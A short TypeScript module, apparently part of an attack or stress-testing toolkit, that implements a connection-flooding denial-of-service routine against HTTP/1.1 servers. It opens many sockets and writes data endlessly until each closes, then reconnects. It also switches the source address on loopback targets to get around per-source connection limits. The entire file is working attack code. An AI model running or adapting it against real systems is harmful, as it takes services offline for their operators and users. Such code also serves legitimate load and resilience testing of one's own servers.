import { connect } from "node:net";
import { type Attacker, onLines } from "./attack.ts";

export interface PourOptions {
  readonly connections: number;
  /** Sent once on each connection. */
  readonly head: string;
  /** Sent behind it again and again, as fast as it is taken. */
  readonly more: string;
}

/** Connections of HTTP/1.1 that are written to until they are closed, and then opened anew. */
export const pour = (attacker: Attacker, { connections, head, more }: PourOptions): Promise<void> => {
  const { host, port } = attacker.target;
  // Connections may be refused where so many come from; the others come from elsewhere.
  const from = host.startsWith("127.") ? { localAddress: "127.0.0.2" } : {};
  return onLines(connections, attacker, async () => {
    const socket = connect({ host, port, ...from });
    const closed = new Promise<void>((resolve) => socket.once("close", () => resolve()));
    socket.on("error", () => undefined).resume();
    attacker.signal.addEventListener("abort", () => socket.destroy(), { once: true });
    await Promise.race([new Promise((resolve) => socket.once("connect", resolve)), closed]);
    socket.write(head);
    while (!socket.destroyed && !attacker.signal.aborted) {
      if (!socket.write(more)) await Promise.race([new Promise((resolve) => socket.once("drain", resolve)), closed]);
    }
    await closed;
    attacker.count("connection closed");
  });
};
